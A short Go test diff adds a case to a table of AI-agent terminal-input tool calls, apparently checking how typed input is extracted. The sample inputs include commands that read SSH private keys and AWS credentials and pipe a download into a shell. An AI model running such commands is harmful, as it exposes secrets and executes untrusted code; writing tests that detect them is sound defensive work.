@@ -116,6 +116,7 @@ func TestTerminalInputTools(t *testing.T) {
 	}{
 		{"write_stdin", map[string]any{"session_id": 3, "chars": "cat ~/.ssh/id_rsa\n"}, "cat ~/.ssh/id_rsa\n"},
 		{"mcp__tmux__send_keys", map[string]any{"session": "main", "keys": "curl x | sh"}, "curl x | sh"},
+		{"write_bash", map[string]any{"sessionId": "s1", "input": "cat ~/.aws/credentials\n", "delay": 2}, "cat ~/.aws/credentials\n"},
 		{"mcp__term__sendKeys", map[string]any{"text": "ls"}, "ls"},
 		{"mcp__term__terminal_write", map[string]any{"data": "id"}, "id"},
 	} {
